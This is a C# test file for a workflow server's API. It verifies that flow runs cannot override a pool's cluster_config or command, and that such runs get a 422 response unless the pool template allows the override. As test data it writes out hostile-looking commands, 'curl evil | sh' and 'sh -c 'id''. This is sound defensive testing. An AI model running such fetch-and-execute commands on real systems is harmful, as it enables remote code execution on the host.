using System.Net;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Flows.Server.Tests;

/// <summary>
/// Job variables that choose where credentials go or what runs on the worker's host (<c>cluster_config</c> of a
/// kubernetes pool, <c>command</c> of a process pool) come from the pool and the deployment only: a flow run that sets
/// them is a 422 naming them, unless the pool's template marks them <c>x-flows-allow-run-override</c>.
/// </summary>
public abstract class RunOverrideTests(ServerFixture fixture)
{
    private readonly HttpClient _http = fixture.Http;

    [Fact]
    public async Task A_run_of_a_kubernetes_pool_may_not_choose_its_cluster_config()
    {
        var (deploymentId, _) = await DeploymentAsync("kubernetes", new JsonObject { ["image"] = "app:1" });
        var runsBefore = await CountRunsAsync();

        var (status, body) = await PostAsync($"deployments/{deploymentId}/create_flow_run",
            new JsonObject { ["job_variables"] = new JsonObject { ["cluster_config"] = new JsonObject { ["config"] = new JsonObject(), ["context_name"] = "evil" } } });

        Assert.Equal(HttpStatusCode.UnprocessableEntity, status);
        Assert.Equal("cluster_config", body!["detail"]![0]!["loc"]![2]!.GetValue<string>());
        Assert.Contains("'cluster_config'", body["detail"]![0]!["msg"]!.GetValue<string>(), StringComparison.Ordinal);
        Assert.Equal(runsBefore, await CountRunsAsync());
    }

    [Fact]
    public async Task A_run_of_a_process_pool_may_not_choose_its_command_but_may_repeat_the_deployments()
    {
        var (deploymentId, _) = await DeploymentAsync("process", new JsonObject { ["command"] = "dotnet app.dll" });

        var (refused, _) = await PostAsync($"deployments/{deploymentId}/create_flow_run", new JsonObject { ["job_variables"] = new JsonObject { ["command"] = "curl evil | sh" } });
        var (same, _) = await PostAsync($"deployments/{deploymentId}/create_flow_run", new JsonObject { ["job_variables"] = new JsonObject { ["command"] = "dotnet app.dll", ["env"] = new JsonObject { ["A"] = "1" } } });
        var (other, _) = await PostAsync($"deployments/{deploymentId}/create_flow_run", new JsonObject { ["job_variables"] = new JsonObject { ["working_dir"] = "/tmp" } });

        Assert.Equal(HttpStatusCode.UnprocessableEntity, refused);
        Assert.Equal(HttpStatusCode.Created, same);
        Assert.Equal(HttpStatusCode.Created, other);
    }

    [Fact]
    public async Task Patching_a_runs_protected_variable_is_422_and_sending_it_back_unchanged_is_not()
    {
        var (deploymentId, _) = await DeploymentAsync("process", new JsonObject { ["command"] = "dotnet app.dll" });
        var (_, run) = await PostAsync($"deployments/{deploymentId}/create_flow_run", new JsonObject());
        var runId = run!["id"]!.GetValue<string>();

        var refused = await PatchAsync($"flow_runs/{runId}", new JsonObject { ["job_variables"] = new JsonObject { ["command"] = "sh -c 'id'" } });
        var unchanged = await PatchAsync($"flow_runs/{runId}", new JsonObject { ["job_variables"] = new JsonObject { ["command"] = "dotnet app.dll", ["env"] = new JsonObject() } });

        Assert.Equal(HttpStatusCode.UnprocessableEntity, refused);
        Assert.Equal(HttpStatusCode.NoContent, unchanged);
        var stored = JsonNode.Parse(await _http.GetStringAsync($"flow_runs/{runId}"))!;
        Assert.Equal("dotnet app.dll", stored["job_variables"]!["command"]!.GetValue<string>());
    }

    [Fact]
    public async Task A_run_posted_to_flow_runs_for_the_deployment_may_not_ask_either()
    {
        var (deploymentId, flowId) = await DeploymentAsync("kubernetes", new JsonObject());

        var (status, _) = await PostAsync("flow_runs/", new JsonObject
        {
            ["flow_id"] = flowId, ["deployment_id"] = deploymentId, ["job_variables"] = new JsonObject { ["cluster_config"] = new JsonObject { ["config"] = new JsonObject() } },
        });

        Assert.Equal(HttpStatusCode.UnprocessableEntity, status);
    }

    [Fact]
    public async Task A_pool_whose_template_allows_run_overrides_lets_runs_choose()
    {
        var template = JsonNode.Parse(await _http.GetStringAsync("collections/views/aggregate-worker-metadata"))!["prefect"]!["process"]!["default_base_job_configuration"]!.DeepClone();
        template["variables"]!["properties"]!["command"]!["x-flows-allow-run-override"] = true;
        var (deploymentId, _) = await DeploymentAsync("process", new JsonObject { ["command"] = "dotnet app.dll" }, template);

        var (status, run) = await PostAsync($"deployments/{deploymentId}/create_flow_run", new JsonObject { ["job_variables"] = new JsonObject { ["command"] = "dotnet other.dll" } });

        Assert.Equal(HttpStatusCode.Created, status);
        Assert.Equal("dotnet other.dll", run!["job_variables"]!["command"]!.GetValue<string>());
    }

    private async Task<(string DeploymentId, string FlowId)> DeploymentAsync(string poolType, JsonObject jobVariables, JsonNode? template = null)
    {
        var suffix = Guid.NewGuid().ToString("N")[..10];
        var pool = new JsonObject { ["name"] = $"pool-{suffix}", ["type"] = poolType };
        if (template is not null)
        {
            pool["base_job_template"] = template;
        }

        Assert.Equal(HttpStatusCode.Created, (await PostAsync("work_pools/", pool)).Status);
        var (_, flow) = await PostAsync("flows/", new JsonObject { ["name"] = $"flow-{suffix}" });
        var flowId = flow!["id"]!.GetValue<string>();
        var (status, deployment) = await PostAsync("deployments/", new JsonObject
        {
            ["name"] = $"dep-{suffix}", ["flow_id"] = flowId, ["work_pool_name"] = $"pool-{suffix}", ["job_variables"] = jobVariables,
        });
        Assert.True(status is HttpStatusCode.Created or HttpStatusCode.OK, deployment?.ToJsonString());
        return (deployment!["id"]!.GetValue<string>(), flowId);
    }

    private async Task<long> CountRunsAsync() => long.Parse(await (await _http.PostAsync("flow_runs/count", Json(new JsonObject()))).Content.ReadAsStringAsync(), System.Globalization.CultureInfo.InvariantCulture);

    private async Task<(HttpStatusCode Status, JsonNode? Body)> PostAsync(string path, JsonNode body)
    {
        using var response = await _http.PostAsync(path, Json(body));
        var text = await response.Content.ReadAsStringAsync();
        return (response.StatusCode, text.Length > 0 ? JsonNode.Parse(text) : null);
    }

    private async Task<HttpStatusCode> PatchAsync(string path, JsonNode body)
    {
        using var response = await _http.PatchAsync(path, Json(body));
        return response.StatusCode;
    }

    private static StringContent Json(JsonNode body) => new(body.ToJsonString(), Encoding.UTF8, "application/json");
}

public sealed class SqliteRunOverrideTests(SqliteServerFixture fixture) : RunOverrideTests(fixture), IClassFixture<SqliteServerFixture>;

public sealed class PostgresRunOverrideTests(PostgresServerFixture fixture) : RunOverrideTests(fixture), IClassFixture<PostgresServerFixture>;
